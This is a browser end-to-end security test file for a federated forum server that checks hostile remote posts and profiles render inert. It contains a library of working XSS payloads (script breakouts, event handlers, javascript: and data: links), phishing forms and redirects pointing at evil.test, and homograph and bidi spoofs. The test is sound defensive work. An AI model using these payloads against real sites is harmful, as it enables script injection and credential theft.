/** Pages on which every field of everybody is an attack, in a real browser, with the server as it is. */
import { mkdirSync } from 'node:fs';
import { sql } from 'drizzle-orm';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  act,
  follow,
  fresh,
  note,
  openScene,
  postAt,
  send,
  type Scene,
} from '../federation/support/scene.ts';
import type { Doc } from '../federation/support/pretend-server.ts';
import { openBrowser } from './serve.ts';

const pictures = process.env['SCREENSHOTS'];
const run = `document.title='pwned';window.pwned=1;alert(1)`;
const breakout = `"'><script>${run}</script><img src=x onerror="${run}"><svg onload="${run}"></svg>`;
const long = 'W'.repeat(10_000);
const zalgo = `z${'\u0301\u0308\u0323'.repeat(200)}algo`;
const bidi = '\u202egnp.exe\u202c\u2066\u200b\u00ad';

const attacks = [
  breakout,
  `<style>body{display:none}</style><link rel=stylesheet href=https://evil.test/x.css><meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<base href=https://evil.test/><form action=https://evil.test/><input name=password autofocus onfocus="${run}"><button>Sign in</button></form>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe><object data=https://evil.test/x></object><embed src=https://evil.test/x><video src=https://evil.test/v autoplay></video>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<p style="position:fixed;inset:0;background:url(https://evil.test/b)" class="skip bar" id="main" onclick="${run}">${bidi}</p>`,
  `<a href="javascript:${run}">press</a><a href="java\tscript:${run}">press</a><a href="data:text/html,<script>${run}</script>">press</a><a href=//evil.test>press</a>`,
  `<a href="https://evil.test/login" target=_blank ping=https://evil.test/p>https://bank.example/login</a> <a href="https://xn--80ak6aa92e.com/">аррӏе.com</a>`,
  `<img src=https://evil.test/track.png><audio src=https://evil.test/a autoplay></audio><details open ontoggle="${run}">x</details>`,
  `${long} ${zalgo} ${'<blockquote><ul><li>'.repeat(30)}deep`,
].join('\n');

let scene: Scene;
let browser: Browser;
let base: string;
const paths: Record<string, string> = {};

const everything = (more: Doc = {}): Doc => ({
  name: `${bidi}${breakout}${zalgo}${long}`,
  content: attacks,
  summary: attacks,
  source: { content: attacks, mediaType: 'text/markdown' },
  url: [
    `javascript:${run}`,
    { type: 'Link', href: `https://evil.test/"><script>${run}</script>`, mediaType: 'text/html' },
  ],
  attachment: [
    { type: 'Link', href: `https://evil.test/"onmouseover="${run}"/${long}`.slice(0, 2_000) },
  ],
  image: { type: 'Image', url: `javascript:${run}` },
  tag: [
    { type: 'Mention', href: scene.cats.uri, name: breakout },
    { type: 'Hashtag', href: `javascript:${run}`, name: breakout },
  ],
  language: { identifier: breakout, name: breakout },
  ...more,
});

/** Somebody elsewhere and what they say, through the real door. */
async function seed(): Promise<void> {
  const { evil, moot, group, alice } = scene;
  const who: Doc = {
    name: `${bidi}Mallory ${breakout}${zalgo}${long}`,
    summary: attacks,
    url: `javascript:${run}`,
    icon: { type: 'Image', url: 'https://evil.test/icon.png' },
    image: { type: 'Image', url: `data:text/html,<script>${run}</script>` },
    attachment: [{ type: 'PropertyValue', name: breakout, value: attacks }],
  };
  const person = evil.person('eve', who);
  const post = `${evil.origin}/posts/${fresh()}`;
  const said: [string, Doc][] = [
    [person, everything()],
    [person, everything({ name: undefined, inReplyTo: post })],
    [person, everything({ name: undefined, inReplyTo: scene.ours.uri })],
    [person, everything({ type: 'Question', oneOf: [{ type: 'Note', name: attacks }] })],
  ];
  for (const [index, [by, more]] of said.entries()) {
    const id = index === 0 ? post : `${evil.origin}/posts/${fresh()}`;
    const sent = await send(scene, act('Create', by, note(id, by, scene.cats.uri, more)));
    expect(sent).toMatchObject({ status: 202, state: 'applied' });
  }
  const bad = group.group('bad', { ...who, attributedTo: undefined });
  await follow(moot, alice, bad);
  paths['thread'] = `/post/${(await postAt(scene, post))!.id}`;
  paths['our thread'] = `/post/${(await postAt(scene, scene.ours.uri))!.id}`;
  paths['person'] = '/u/eve@evil.test';
  paths['community'] = '/c/bad@group.test';
  paths['our community'] = '/c/cats';
  paths['communities'] = '/communities';
  paths['front'] = '/';
  paths['look-up'] =
    `/authorize_interaction?uri=${encodeURIComponent(`https://evil.test/${breakout}`)}`;
}

beforeAll(async () => {
  scene = await openScene();
  await seed();
  base = await scene.moot.app.listen({ port: 0, host: '127.0.0.1' });
  browser = await openBrowser();
}, 120_000);
afterAll(async () => {
  await browser?.close();
  await scene?.close();
});

type Seen = {
  readonly dialogs: string[];
  readonly said: string[];
  readonly asked: { url: string; type: string }[];
};

async function visit<T>(
  path: string,
  options: { readonly width?: number; readonly bypassCSP?: boolean },
  work: (page: Page, seen: Seen) => Promise<T>,
): Promise<T> {
  const { width = 1_280, bypassCSP = false } = options;
  const context = await browser.newContext({ viewport: { width, height: 900 }, bypassCSP });
  const seen: Seen = { dialogs: [], said: [], asked: [] };
  const page = await context.newPage();
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // Pictures of hosts that do not exist cannot be loaded: that is said, and is no fault of the page.
  page.on(
    'console',
    (one) => void (/ERR_NAME_NOT_RESOLVED/.test(one.text()) || seen.said.push(one.text())),
  );
  page.on('pageerror', (error) => void seen.said.push(error.message));
  page.on('request', (one) => void seen.asked.push({ url: one.url(), type: one.resourceType() }));
  try {
    await page.goto(base + path, { waitUntil: 'load' });
    return await work(page, seen);
  } finally {
    await context.close();
  }
}

/** All but our own script, and data that runs nowhere. */
const strangeScript = 'script:not([src^="/assets/script-"]):not([type="application/ld+json"])';

const names = [
  'thread',
  'our thread',
  'person',
  'community',
  'our community',
  'communities',
  'front',
  'look-up',
];

describe.each(names)('%s', (name) => {
  test.each([false, true])(
    'runs nothing, asks nobody, and breaks no policy (without it: %s)',
    (bypassCSP) =>
      visit(paths[name]!, { bypassCSP }, async (page, seen) => {
        await page.waitForTimeout(200);
        for (const y of [100, 300, 500, 700]) await page.mouse.move(640, y, { steps: 3 });

        expect(await page.evaluate('typeof window.pwned')).toBe('undefined');
        expect(await page.title()).not.toBe('pwned');
        expect(new URL(page.url()).pathname).toBe(new URL(base + paths[name]!).pathname);
        expect(seen.dialogs).toEqual([]);
        expect(seen.said).toEqual([]);
        const abroad = seen.asked.filter(({ url }) => !url.startsWith(base));
        for (const { url, type } of abroad) {
          expect(url).toBe('https://evil.test/icon.png');
          expect(type).toBe('image');
        }
        // Forms of ours lead to ourselves, and stand in nobody's words.
        const alien = `${strangeScript}, style, iframe, object, embed, base, math, video, audio, form:not([action^="/"]), .prose :is(form, input, button), meta[http-equiv], [onerror], [onclick], [style]`;
        expect(await page.locator(alien).count()).toBe(0);
        const pictures =
          'main img:not([referrerpolicy="no-referrer"]), main img:not([loading="lazy"]), main img:not([src^="https://"])';
        expect(await page.locator(pictures).count()).toBe(0);
      }),
  );

  test.each([320, 1_280])('fits into %i px, whatever the length of a word', (width) =>
    visit(paths[name]!, { width }, async (page) => {
      if (pictures !== undefined) {
        mkdirSync(pictures, { recursive: true });
        await page.screenshot({
          path: `${pictures}/hostile-${name.replaceAll(' ', '-')}-${width}.png`,
        });
      }
      expect(
        await page.evaluate<number>('document.documentElement.scrollWidth'),
      ).toBeLessThanOrEqual(width);
      expect((await page.locator('main').innerText()).length).toBeGreaterThan(20);
    }),
  );
});

test('every link leads to a page of ours, or elsewhere by http and marked as not ours', async () => {
  for (const name of names)
    await visit(paths[name]!, {}, async (page) => {
      const links = await page.evaluate<{ href: string; rel: string }[]>(
        `[...document.querySelectorAll('a[href]')].map((a) => ({ href: a.href, rel: a.rel }))`,
      );
      expect(links.length).toBeGreaterThan(3);
      for (const { href, rel } of links) {
        if (href.startsWith(base)) continue;
        expect(href).toMatch(/^https?:\/\//);
        for (const word of ['nofollow', 'noopener', 'noreferrer', 'ugc'])
          expect(rel, href).toContain(word);
      }
    });
});

test('what was written is there as words, and says where it leads', () =>
  visit(paths['thread']!, {}, async (page) => {
    const words = await page.locator('main').innerText();
    expect(words).toContain('<script>');
    expect(words).toContain('https://bank.example/login (evil.test)');
    expect(words).toContain('аррӏе.com (xn--80ak6aa92e.com)');
    expect(words).not.toContain('\u202e');
  }));

describe('rows that slipped past the door', () => {
  test('are inert on the page all the same', async () => {
    const { query } = scene.moot.house.database;
    await query.execute(
      sql`update posts set body = ${attacks}, title = ${breakout}, url = ${`javascript:${run}`}, page = ${`javascript:${run}`}, language = ${breakout}`,
    );
    await query.execute(
      sql`update comments set body = ${attacks}, page = ${`javascript:${run}`}, language = ${breakout}`,
    );
    await query.execute(
      sql`update actors set title = ${breakout}, summary = ${attacks}, icon = ${`javascript:${run}`}, page = ${`javascript:${run}`}, moved_to = ${`javascript:${run}`} where kind <> 'instance'`,
    );
    for (const name of names)
      await visit(paths[name]!, { bypassCSP: true }, async (page, seen) => {
        expect(await page.evaluate('typeof window.pwned'), name).toBe('undefined');
        expect(seen.dialogs, name).toEqual([]);
        expect(
          seen.asked.filter(({ url }) => !url.startsWith(base)),
          name,
        ).toEqual([]);
        expect(
          await page.locator(`a[href^="javascript:"], ${strangeScript}, iframe, [onerror]`).count(),
          name,
        ).toBe(0);
      });
  });
});

test.each([
  '/post/1',
  '/c/cats',
  '/c/cats/outbox?page=true',
  '/c/cats/feed.xml',
  '/.well-known/nodeinfo',
  '/nowhere/%22%3E%3Cscript%3E',
])('%s, opened as a document in a browser, runs nothing', async (path) => {
  const context = await browser.newContext({
    extraHTTPHeaders: { accept: 'application/activity+json' },
  });
  const page = await context.newPage();
  const asked: string[] = [];
  page.on('request', (one) => void asked.push(one.url()));
  try {
    // Chromium may offer what it cannot show as a download: then there is no page at all.
    await page.goto(base + path).catch(() => undefined);
    expect(await page.evaluate('typeof window.pwned')).toBe('undefined');
    expect(asked.filter((url) => !url.startsWith(base))).toEqual([]);
  } finally {
    await context.close();
  }
});
